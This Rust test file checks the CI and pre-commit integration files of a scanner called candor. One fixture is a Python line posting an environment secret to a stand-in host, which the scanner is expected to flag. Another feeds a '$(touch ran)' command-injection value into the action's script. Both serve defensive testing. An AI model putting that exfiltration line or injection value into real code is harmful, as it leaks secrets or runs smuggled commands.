//! What other tools read to run candor: hooks, an action, a template. Each is YAML of the shape that its reader wants, and
//! the commands in it are commands and options that candor has.

use std::collections::BTreeSet;
use std::fs;
use std::io::Write as _;
use std::path::Path;
use std::process::{Command, Stdio};

use saphyr::{LoadableYamlNode as _, Yaml};

use super::completions::commands;

const FILES: [&str; 3] = [".pre-commit-hooks.yaml", ".github/actions/candor/action.yml", ".gitlab/candor.gitlab-ci.yml"];

fn read(name: &str) -> String {
    fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join(name)).expect("it is there")
}

/// The one document of a file.
fn parsed<'t>(name: &str, text: &'t str) -> Yaml<'t> {
    let mut documents = Yaml::load_from_str(text).unwrap_or_else(|error| panic!("{name}: {error}"));
    assert_eq!(documents.len(), 1, "{name}");
    documents.remove(0)
}

/// The strings at `keys`, `*` standing for each element of a list; there is at least one.
fn strings(yaml: &Yaml<'_>, keys: &[&str]) -> Vec<String> {
    match (keys, yaml) {
        ([], yaml) => yaml.as_str().map(|text| vec![text.to_owned()]).unwrap_or_default(),
        (["*", rest @ ..], yaml) => yaml.as_sequence().into_iter().flatten().flat_map(|yaml| strings(yaml, rest)).collect(),
        ([key, rest @ ..], yaml) => yaml.as_mapping_get(key).map(|yaml| strings(yaml, rest)).unwrap_or_default(),
    }
}

/// Every `candor …` of a script begins with a command of candor, and its options are options of that command.
fn check_commands(name: &str, script: &str) {
    let known = commands(&[]);
    let calls: Vec<Vec<&str>> = script
        .lines()
        .map(str::trim_start)
        .filter_map(|line| line.strip_prefix("candor "))
        .map(|rest| rest.split_whitespace().collect())
        .collect();
    assert!(!calls.is_empty(), "{name}: no call of candor in {script}");
    let options = script.split(|character: char| character.is_whitespace() || "()\"=".contains(character));
    let options: BTreeSet<&str> = options.filter(|word| word.starts_with("--") && word.len() > 2).collect();
    for call in calls {
        assert!(known.contains(call[0]), "{name}: {call:?}");
        let help = Command::new(env!("CARGO_BIN_EXE_candor")).args([call[0], "--help"]).output().expect("it runs");
        let help = String::from_utf8(help.stdout).expect("UTF-8");
        for option in options.iter().filter(|option| **option != "--quiet" && **option != "--locked" && **option != "--path") {
            assert!(help.contains(&format!("{option} ")), "{name}: {option} is no option of `candor {}`", call[0]);
        }
    }
}

fn bash_parses(script: &str) {
    let mut bash = Command::new("bash").arg("-n").stdin(Stdio::piped()).spawn().expect("bash");
    bash.stdin.take().expect("a pipe").write_all(script.as_bytes()).expect("bash reads");
    assert!(bash.wait().expect("bash ends").success(), "{script}");
}

#[test]
fn hooks_of_pre_commit_call_what_there_is() {
    let text = read(FILES[0]);
    let hooks = parsed(FILES[0], &text);
    assert_eq!(strings(&hooks, &["*", "id"]), ["candor", "candor-installed"]);
    assert_eq!(strings(&hooks, &["*", "language"]), ["rust", "system"]);
    assert_eq!(strings(&hooks, &["*", "name"]).len(), 2);
    for entry in strings(&hooks, &["*", "entry"]) {
        check_commands(FILES[0], &entry);
    }
}

#[test]
fn the_action_of_github_calls_what_there_is_and_takes_no_value_into_a_script() {
    let text = read(FILES[1]);
    let action = parsed(FILES[1], &text);
    assert_eq!(strings(&action, &["runs", "using"]), ["composite"]);
    assert!(!strings(&action, &["description"]).is_empty() && !strings(&action, &["name"]).is_empty());
    let scripts = strings(&action, &["runs", "steps", "*", "run"]);
    assert_eq!(scripts.len(), strings(&action, &["runs", "steps", "*", "shell"]).len());
    for script in &scripts {
        assert!(!script.contains("${{"), "{script}");
        bash_parses(script);
    }
    check_commands(FILES[1], scripts.last().expect("a step"));
}

#[test]
fn the_template_of_gitlab_calls_what_there_is() {
    let text = read(FILES[2]);
    let template = parsed(FILES[2], &text);
    let script = strings(&template, &["candor", "script", "*"]).join("\n");
    bash_parses(&script);
    check_commands(FILES[2], &script);
}

/// The action's own script with arguments in its array, in a workflow's place.
#[test]
fn the_script_of_the_action_runs() {
    let text = read(FILES[1]);
    let script = strings(&parsed(FILES[1], &text), &["runs", "steps", "*", "run"]).pop().expect("a step");
    let home = tempfile::tempdir().expect("a folder");
    fs::write(home.path().join("a.py"), "import os\nimport requests\nrequests.post('https://c.example', data=os.environ['T'])\n")
        .expect("a file");
    let program = Path::new(env!("CARGO_BIN_EXE_candor")).parent().expect("a folder");
    let path = format!("{}:/usr/bin:/bin", program.display());
    let run = |directory: &str| {
        let mut bash = Command::new("bash");
        bash.env_clear().env("PATH", &path).env("HOME", home.path()).current_dir(home.path());
        bash.env("CANDOR_DIRECTORY", directory).env("CANDOR_CHANGED_SINCE", "").env("CANDOR_POLICY", "");
        let output = bash.args(["-eo", "pipefail", "-c", &script]).output().expect("bash runs");
        (output.status.code(), String::from_utf8(output.stdout).expect("UTF-8"))
    };
    let (code, out) = run(".");
    assert_eq!(code, Some(1));
    assert!(out.starts_with("::error file=a.py,line=3,"), "{out}");
    assert_eq!(run("$(touch ran)").0, Some(2));
    assert!(!home.path().join("ran").exists());
}

/// Registries are named by those who use these files.
#[test]
fn no_host_is_named() {
    for name in FILES {
        let text = read(name);
        let names_host = text.contains("://") || [".com", ".org", ".io/", ".net"].iter().any(|end| text.contains(end));
        assert!(!names_host, "{name}");
    }
}
